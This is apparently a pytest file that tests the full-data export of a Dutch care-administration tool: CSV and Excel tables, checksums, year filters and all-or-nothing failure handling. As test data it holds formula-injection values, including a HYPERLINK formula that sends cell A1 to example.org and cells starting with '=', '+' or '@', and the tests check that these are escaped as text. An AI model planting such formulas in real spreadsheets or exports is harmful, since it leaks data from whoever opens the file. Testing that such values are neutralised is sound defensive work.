"""Everything can be taken along in open formats, exactly, and whole or not at all."""

from __future__ import annotations

import csv
import hashlib
import os
import re
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from tests.cli.post import PER_WEEK, bericht301, bericht325
from tests.spel import ACHTERNAAM, BSN, BSN_TWEE, Json, Spel, contract
from zorgadmin.messages.formeel import XmlBerichten

PROJECT = Path(__file__).resolve().parents[2]
FORMULE = '=HYPERLINK("http://example.org?"&A1;"klik")'
CONTROLE = "controlegetallen.sha256"
KOP = "toewijzingnummer;datum;hoeveelheid;eenheid;notitie;referentie"


PROFIEL = """[[urenprofiel]]
naam = "Mijn blad"
kolommen = { client = "Wie" }
[[urenprofiel.koppeling]]
client = "Jo"
toewijzingnummer = 1001
"""


@pytest.fixture
def praktijkjaar(praktijk: Spel) -> Spel:
    """Two clients; March answered with a rejection, a decision, April made; hours of 2025 too."""
    praktijk.richt_in(
        contract(code="50T01", eenheid="euro", tarief=None, categorie="50"),
        '[[gemeente]]\ncode = "0384"\nwet = "jw"\ntermijn_declareren = 45\n',
    )
    extra = f"<m:Commentaar>{FORMULE.replace('&', '&amp;')}</m:Commentaar>\n"
    praktijk.importeer(
        bericht301(PER_WEEK.met(van="2025-01-01"), extra=extra), naam="Post van juni.xml"
    )
    tweede = PER_WEEK.met(nummer=1002, categorie="50", code="50T01", omvang=(500000, "83", "6"))
    praktijk.importeer(
        bericht301(tweede, bsn=BSN_TWEE, achternaam="=1+1", identificatie="G0002"),
        naam="Post van juni.xml",
    )
    praktijk.importeer(b"<geen bericht", naam="=kapot.xml", code=3)
    praktijk.uren(
        f'1001;2026-03-03;2,5;uur;"{FORMULE.replace(chr(34), chr(34) * 2)}";A1',
        "1001;2026-03-10;1;uur;;A2",
        "1002;2026-03-04;12,34;euro;;",
        "1001;2025-11-05;1;uur;;",
        "1001;2026-04-02;4;uur;;",
        kop=KOP,
    )
    praktijk.uren("1001;2026-03-10;0;uur;;A2", kop=KOP)
    praktijk.richt_in(PROFIEL)
    praktijk.uren("Bo;5-3-2026;1", kop="cliënt;datum;uren", code=1)
    maart = praktijk.declareer("2026-03")
    praktijk.run("ingediend", maart["declaratienummer"])
    regel = maart["prestaties"][0]["referentienummer"]
    praktijk.run(
        *("antwoord", maart["declaratienummer"], "--afgekeurd", f"{regel}=0611"),
        *("--reden", "+31 belde"),
    )
    praktijk.run("vervalt", regel, "--reden", "@klein bedrag")
    betaling = ("--bedrag", "12,34", "--op", "2026-05-04")
    assert praktijk.run("betaald", maart["declaratienummer"], *betaling).code == 0
    praktijk.declareer("2026-04")
    return praktijk


def export(spel: Spel, *opties: str) -> tuple[Path, Json]:
    """Export everything; the folder, and what the command said."""
    uitkomst = spel.run("export", "alles", "--naar", spel.map / "export", *opties)
    assert uitkomst.code == 0, uitkomst
    return Path(uitkomst.json["map"]), uitkomst.json


def table(folder: Path, naam: str) -> list[dict[str, str]]:
    """Rows of a CSV file."""
    with (folder / "tabellen" / f"{naam}.csv").open(encoding="utf-8-sig", newline="") as bestand:
        return list(csv.DictReader(bestand, delimiter=";"))


def header(folder: Path, naam: str) -> list[str]:
    """Names of the columns of a CSV file."""
    with (folder / "tabellen" / f"{naam}.csv").open(encoding="utf-8-sig", newline="") as bestand:
        return next(csv.reader(bestand, delimiter=";"))


def column(folder: Path, naam: str, kolom: str) -> list[str]:
    """Cells of one column."""
    return [rij[kolom] for rij in table(folder, naam)]


def test_every_table_is_there_in_both_forms(praktijkjaar: Spel) -> None:
    folder, gezegd = export(praktijkjaar)
    assert gezegd["tabellen"] == {
        "praktijk": 1,
        "boekhouding": 0,
        "gemeenteafspraken": 1,
        "contracten": 2,
        "clienten": 2,
        "toewijzingen": 2,
        "leveringen": 5,
        "leveringen_historie": 6,
        "declaraties": 2,
        "declaratieregels": 4,
        "besluiten": 1,
        "losgelaten": 0,
        "betalingen": 1,
        "boekingen": 0,
        "aanmeldingen": 0,
        "regiemeldingen": 0,
        "regiebesluiten": 0,
        "resultaten": 0,
        "factuurstanden": 0,
        "verzoeken": 0,
        "verzoekdelen": 0,
        "verzoekantwoorden": 0,
        "verzoeken_losgelaten": 0,
        "documenten": 0,
        "verwijzingen": 0,
        "verwijzingen_per_product": 0,
        "achttien": 0,
        "facturen": 0,
        "urenprofielen": 1,
        "urenkoppelingen": 1,
        "wachtende_uren": 1,
        "berichten": 7,
        "standaarden": 0,
        "logboek": 12,
        "tellers": 3,
    }
    werkboek = openpyxl.load_workbook(folder / "zorgadmin.xlsx")
    assert werkboek.sheetnames == list(gezegd["tabellen"])
    for blad in werkboek.worksheets:
        rijen = table(folder, blad.title)
        assert len(rijen) == gezegd["tabellen"][blad.title]
        assert blad.max_row == len(rijen) + 1
        assert [cel.value for cel in blad[1]] == header(folder, blad.title)
        for op_blad, in_csv in zip(blad.iter_rows(min_row=2), rijen, strict=True):
            for cel, tekst in zip(op_blad, in_csv.values(), strict=True):
                assert cel.data_type != "f"
                # A workbook keeps whole seconds.
                kort = re.sub(r"(\d\d:\d\d:\d\d)\.\d+$", r"\1", tekst.removeprefix("'"))
                assert _said(cel.value, cel.number_format) == kort


def _said(waarde: object, formaat: str) -> str:
    """A cell of the workbook in the words of the CSV file."""
    match waarde:
        case None:
            return ""
        case datetime() if "hh" in formaat:
            return waarde.isoformat(" ")
        case datetime():
            return waarde.date().isoformat()
        case int() | float() if formaat == "#,##0.00":
            return f"{waarde:.2f}".replace(".", ",")
        case _:
            return str(waarde)


def test_figures_are_written_out(praktijkjaar: Spel) -> None:
    folder, _ = export(praktijkjaar)
    regels = table(folder, "declaratieregels")
    velden = ("referentienummer", "toewijzingnummer", "volume", "volume_euro", "tarief")
    assert [tuple(rij[veld] for veld in velden) for rij in regels] == [
        ("R0000000001", "1001", "1", "", "87,24"),
        ("R0000000002", "1001", "3", "", "87,24"),
        ("R0000000003", "1002", "", "12,34", ""),
        ("R0000000004", "1001", "4", "", "87,24"),
    ]
    assert [rij["bedrag_met_teken"] for rij in regels] == ["87,24", "261,72", "12,34", "348,96"]
    assert [rij["status"] for rij in regels] == [
        *("vervallen", "toegekend", "toegekend", "aangemaakt"),
    ]
    assert (regels[0]["retourcodes"], regels[0]["betekenis"]) == (
        "0611",
        "Het ingediende tarief komt niet overeen met het contractuele tarief",
    )
    assert '"hoeveelheid":150' in regels[1]["opbouw"]
    maart, april = table(folder, "declaraties")
    assert (maart["totaal"], maart["toegekend"], maart["status"]) == (
        *("361,30", "274,06", "beantwoord"),
    )
    assert (april["totaal"], april["toegekend"], april["status"]) == (
        *("348,96", "", "aangemaakt"),
    )
    assert maart["toelichting"] == "hand: +31 belde"
    assert column(folder, "besluiten", "reden") == ["'@klein bedrag"]
    assert column(folder, "contracten", "tarief") == ["87,24", ""]
    assert column(folder, "gemeenteafspraken", "termijn_declareren") == ["45"]
    assert [rij["volume"] + rij["volume_euro"] for rij in table(folder, "toewijzingen")] == [
        *("3", "5000,00"),
    ]


def test_leveringen_have_their_history(praktijkjaar: Spel) -> None:
    folder, _ = export(praktijkjaar)
    leveringen = table(folder, "leveringen")
    assert [(rij["datum"], rij["hoeveelheid"], rij["verwijderd"]) for rij in leveringen] == [
        ("2026-03-03", "150", "nee"),
        ("2026-03-10", "60", "ja"),
        ("2026-03-04", "", "nee"),
        ("2025-11-05", "60", "nee"),
        ("2026-04-02", "240", "nee"),
    ]
    assert leveringen[2]["hoeveelheid_euro"] == "12,34"
    assert leveringen[0]["notitie"] == f"'{FORMULE}"
    historie = table(folder, "leveringen_historie")
    assert [(rij["levering"], rij["wat"]) for rij in historie if rij["levering"] == "2"] == [
        ("2", "toegevoegd"),
        ("2", "verwijderd"),
    ]


def test_clients_have_their_number_and_hostile_names_are_text(praktijkjaar: Spel) -> None:
    folder, _ = export(praktijkjaar)
    assert [(rij["clientnummer"], rij["bsn"], rij["achternaam"]) for rij in _clients(folder)] == [
        ("1", BSN, ACHTERNAAM),
        ("2", BSN_TWEE, "'=1+1"),
    ]
    assert set(column(folder, "toewijzingen", "clientnummer")) == {"1", "2"}
    blad = openpyxl.load_workbook(folder / "zorgadmin.xlsx")["clienten"]
    assert (blad["C3"].value, blad["C3"].data_type) == ("=1+1", "s")


def _clients(folder: Path) -> list[dict[str, str]]:
    return table(folder, "clienten")


def test_messages_are_written_byte_for_byte(praktijkjaar: Spel) -> None:
    praktijkjaar.geupload()
    folder, gezegd = export(praktijkjaar)
    rijen = table(folder, "berichten")
    assert gezegd["berichten"] == len(rijen) == 7
    for rij in rijen:
        inhoud = (folder / rij["bestand"]).read_bytes()
        assert hashlib.sha256(inhoud).hexdigest() == rij["sha256"]
    assert {rij["bericht"]: rij["geupload"] for rij in rijen if rij["status"] == "verstuurd"} == {
        "302": "2026-05-04",
        "323": "",
    }
    for gemaakt in praktijkjaar.naar.iterdir():
        assert (folder / "berichten/verstuurd" / gemaakt.name).read_bytes() == gemaakt.read_bytes()
    assert sorted(pad.name for pad in (folder / "berichten/ontvangen").iterdir()) == [
        "Post van juni-nr3.xml",
        "Post van juni.xml",
    ]
    assert [pad.name for pad in (folder / "berichten/geweigerd").iterdir()] == ["_kapot.xml"]
    (verstuurd,) = (folder / "berichten/verstuurd").glob("*323*04_*")
    assert XmlBerichten().lees(verstuurd.read_bytes()).record is not None


def test_the_index_tells_what_is_what(praktijkjaar: Spel) -> None:
    folder, _ = export(praktijkjaar)
    tekst = (folder / "LEESMIJ.txt").read_text("utf-8-sig")
    for woorden in (
        "Begeleiding Noord (AGB-code 65656055)",
        "Gemaakt:  04-05-2026 om ",
        "Deze export is niet versleuteld",
        "leveringen: 5 rijen.",
        "contracten: 2 rijen.",
        "praktijk: 1 rij.",
        "berichten/verstuurd/  4 bestanden",
    ):
        assert woorden in tekst
    regels = (folder / CONTROLE).read_text("utf-8").splitlines()
    sommen = {regel[66:]: regel[:64] for regel in regels}
    bestanden = {
        pad.relative_to(folder).as_posix(): hashlib.sha256(pad.read_bytes()).hexdigest()
        for pad in folder.rglob("*")
        if pad.is_file()
    }
    assert bestanden.pop(CONTROLE)
    assert sommen == bestanden
    for naam, som in sommen.items():
        assert naam == "LEESMIJ.txt" or f"{som}  {naam}" in tekst


def test_the_command_warns_that_anybody_can_read_it(praktijkjaar: Spel) -> None:
    uitkomst = praktijkjaar.run_text("export", "alles", "--naar", praktijkjaar.map / "export")
    assert uitkomst.code == 0
    assert "iedereen die haar krijgt, kan alle gegevens van je cliënten" in " ".join(
        uitkomst.uit.split()
    )
    assert "35 tabellen met 52 rijen en 7 berichten" in uitkomst.uit
    assert (praktijkjaar.run("logboek").json[-1]["handeling"]) == "export"
    assert praktijkjaar.run("kluis", "controleer").code == 0


def test_of_a_year_comes_what_belongs_to_it(praktijkjaar: Spel) -> None:
    folder, gezegd = export(praktijkjaar, "--jaar", "2025")
    assert "-2025-" in folder.name
    assert column(folder, "leveringen", "datum") == ["2025-11-05"]
    # Care of November was claimed with March: that declaratie comes along whole.
    assert column(folder, "declaraties", "declaratieperiode") == ["2026-03"]
    assert column(folder, "declaratieregels", "maand") == ["2025-11", "2026-03", "2026-03"]
    assert column(folder, "toewijzingen", "toewijzingnummer") == ["1001", "1002"]
    assert gezegd["tabellen"]["logboek"] == 0
    volgend, gezegd = export(praktijkjaar, "--jaar", "2027")
    assert gezegd["tabellen"]["leveringen"] == gezegd["tabellen"]["declaraties"] == 0
    assert column(volgend, "praktijk", "agb") == ["65656055"]


def test_the_answer_on_a_declaratie_comes_along_with_it(toegewezen: Spel) -> None:
    toegewezen.uren("1001;2026-04-02;4;uur")
    april = toegewezen.declareer("2026-04")
    toegewezen.run("ingediend", april["declaratienummer"])
    antwoord = bericht325(Path(april["bestand"]).read_bytes(), dag="2027-01-05")
    resultaat = toegewezen.run(
        "importeer", toegewezen.bestand("325.xml", antwoord), vandaag="2027-01-06"
    )
    assert resultaat.code == 0
    folder, _ = export(toegewezen, "--jaar", "2026")
    assert column(folder, "berichten", "bericht") == ["301", "302", "323", "325"]


# --- Workbooks of declaraties -------------------------------------------------------------------


def rows(pad: Path, blad: str) -> list[tuple[object, ...]]:
    """Rows of a sheet below its headings."""
    werkboek = openpyxl.load_workbook(pad)
    return list(werkboek[blad].iter_rows(min_row=2, values_only=True))


def test_a_year_of_declaraties_in_workbooks(praktijkjaar: Spel) -> None:
    uitkomst = praktijkjaar.run(
        "export", "excel", "--naar", praktijkjaar.map / "export", "--jaar", "2026"
    )
    assert uitkomst.code == 0
    assert uitkomst.json["bestanden"] == [
        "declaraties.xlsx",
        "specificatie-D00000001.xlsx",
        "specificatie-D00000002.xlsx",
    ]
    folder = Path(uitkomst.json["map"])
    assert uitkomst.json["sha256"].keys() == set(uitkomst.json["bestanden"])
    assert rows(folder / "declaraties.xlsx", "bedragen") == [
        ("2026-03", "Diemen", "0384", "Jeugdwet", 274.06, 274.06, 274.06, 12.34),
        # The message over April was made and not uploaded yet.
        ("2026-04", "Diemen", "0384", "Jeugdwet", 348.96, 0, 0, 0),
    ]
    assert len(rows(folder / "declaraties.xlsx", "declaraties")) == 2
    maart = folder / "specificatie-D00000001.xlsx"
    assert [rij[0] for rij in rows(maart, "declaratieregels")] == [
        *("R0000000001", "R0000000002", "R0000000003"),
    ]
    assert [rij[2:] for rij in rows(maart, "bezoeken")] == [
        (60, None, None),
        (150, None, None),
        (None, None, 12.34),
    ]
    april = folder / "specificatie-D00000002.xlsx"
    assert BSN_TWEE not in {cel for rij in rows(april, "declaratieregels") for cel in rij}
    assert praktijkjaar.run("kluis", "controleer").code == 0


def test_the_workbooks_speak_to_a_person_too(praktijkjaar: Spel) -> None:
    uitkomst = praktijkjaar.run_text("export", "excel", "--naar", praktijkjaar.map / "export")
    assert uitkomst.code == 0
    assert "niet versleuteld" in uitkomst.uit


# --- Whole or not at all ------------------------------------------------------------------------


def nothing_left(spel: Spel, *, naar: Path) -> str:
    """Export to a bad place; what was said. Nothing is left and nothing has changed."""
    voor, trail = spel.inhoud(), spel.run("logboek").json
    for soort in ("alles", "pdf", "excel"):
        uitkomst = spel.run("export", soort, "--naar", naar)
        assert uitkomst.code == 3, uitkomst
    assert spel.inhoud() == voor
    assert spel.run("logboek").json == trail
    return uitkomst.fout


@pytest.mark.parametrize(
    ("plek", "reden"),
    [
        ("weg/weg", "Maak haar eerst"),
        ("p.txt", "dit is geen map"),
        ("p.txt/map", "Maak haar eerst"),
        ("x" * 300, "naam is te lang"),
    ],
)
def test_a_bad_place(praktijkjaar: Spel, plek: str, reden: str) -> None:
    (praktijkjaar.map / "p.txt").write_bytes(b"x")
    assert reden in nothing_left(praktijkjaar, naar=praktijkjaar.map / plek)
    assert not (praktijkjaar.map / "weg").exists()


@pytest.fixture
def vol(tmp_path: Path) -> Iterator[Path]:
    """A disk of 64 kB; only root can make one."""
    schijf = tmp_path / "schijf"
    schijf.mkdir()
    mount, umount = shutil.which("mount"), shutil.which("umount")
    if mount is None or umount is None or os.geteuid() != 0:
        pytest.skip("no disk can be made")
    opdracht = [mount, "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(schijf)]
    if subprocess.run(opdracht, check=False, capture_output=True).returncode:
        pytest.skip("no disk can be made")
    yield schijf
    subprocess.run([umount, str(schijf)], check=True)


@pytest.mark.parametrize("vrij", [64_000, 40_000, 20_000, 4_000])
def test_a_disk_that_becomes_full(praktijkjaar: Spel, vol: Path, vrij: int) -> None:
    (vol / "vol").write_bytes(b"x" * (65_536 - vrij))
    voor = praktijkjaar.inhoud()
    uitkomst = praktijkjaar.run("export", "alles", "--naar", vol)
    assert uitkomst.code == 3
    assert "de schijf is vol" in uitkomst.fout
    assert [pad.name for pad in vol.iterdir()] == ["vol"]
    assert praktijkjaar.inhoud() == voor


def test_a_vault_that_cannot_note_it_keeps_no_export(
    praktijkjaar: Spel, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("zorgadmin.storage.uitvoermap.UitvoerMap.publish", fail)
    nothing_left(praktijkjaar, naar=praktijkjaar.map)
    assert not list(praktijkjaar.map.glob("zorgadmin-*"))


def test_a_practice_that_is_not_set_up_has_nothing_to_export(spel: Spel) -> None:
    assert spel.run("export", "alles", "--naar", spel.map / "export").code == 4
    assert not (spel.map / "export").exists()


@pytest.mark.parametrize("jaar", ["x", "26", "1899", "3000", "-1", "", "٢٠٢٦"])
def test_a_year_that_is_none(praktijkjaar: Spel, jaar: str) -> None:
    for soort in ("alles", "excel"):
        uitkomst = praktijkjaar.run_text(
            "export", soort, "--naar", praktijkjaar.map / "e", "--jaar", jaar
        )
        assert uitkomst.code == 2
        assert "geen jaar" in uitkomst.fout


def test_a_year_and_a_month_together_are_refused(praktijkjaar: Spel) -> None:
    for soort in ("alles", "excel", "pdf"):
        opties = ("--jaar", "2026", "--maand", "2026-03")
        uitkomst = praktijkjaar.run("export", soort, "--naar", praktijkjaar.map / "e", *opties)
        assert (uitkomst.code, "--maand" in uitkomst.fout) == (2, True)
    assert not (praktijkjaar.map / "e").exists()


def test_a_month_of_everything(praktijkjaar: Spel) -> None:
    folder, gezegd = export(praktijkjaar, "--maand", "2026-03")
    assert folder.name.startswith("zorgadmin-export-2026-03-gemaakt-")
    assert (gezegd["jaar"], gezegd["maand"]) == (None, "2026-03")
    assert column(folder, "declaraties", "declaratienummer") == ["D00000001"]
    assert set(column(folder, "leveringen", "datum")) == {"2026-03-03", "2026-03-04", "2026-03-10"}
    assert "De maand maart 2026:" in (folder / "LEESMIJ.txt").read_text(encoding="utf-8-sig")


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="no such signal")
@pytest.mark.parametrize("bestanden", [0, 5, 20])
def test_a_kill_in_the_middle_leaves_nothing_after_the_next_command(
    praktijkjaar: Spel, bestanden: int
) -> None:
    """What is left has no name of an export and goes; the vault is whole and exports again."""
    start = (
        "import os, sys\n"
        "from zorgadmin.storage.uitvoermap import UitvoerMap\n"
        "open_ = UitvoerMap.open\n"
        "def counted(self, naam):\n"
        f"    if len(self.bestanden) >= {bestanden}: os.kill(os.getpid(), 9)\n"
        "    return open_(self, naam)\n"
        "UitvoerMap.open = counted\n"
        "from zorgadmin.__main__ import main\n"
        "sys.exit(main())\n"
    )
    naar = praktijkjaar.map / "export"
    naar.mkdir()
    voor = praktijkjaar.inhoud()
    omgeving = {**os.environ, **praktijkjaar.omgeving(), "PYTHONPATH": str(PROJECT)}
    opdracht = [sys.executable, "-c", start, "export", "alles", "--naar", str(naar)]
    klaar = subprocess.run(opdracht, env=omgeving, check=False, timeout=60)
    assert klaar.returncode == -signal.SIGKILL
    assert praktijkjaar.inhoud() == voor
    assert [pad.name[:11] for pad in naar.iterdir()] == [".zorgadmin-"]
    assert praktijkjaar.run("kluis", "controleer").code == 0
    assert list(naar.iterdir()) == []
    folder, _ = export(praktijkjaar)
    assert (folder / "LEESMIJ.txt").exists()


def test_an_encrypted_vault_exports_too(spel: Spel) -> None:
    spel.wachtwoord = "één geheim"
    spel.richt_in(contract())
    spel.importeer(bericht301())
    folder, _ = export(spel)
    assert column(folder, "clienten", "achternaam") == [ACHTERNAAM]
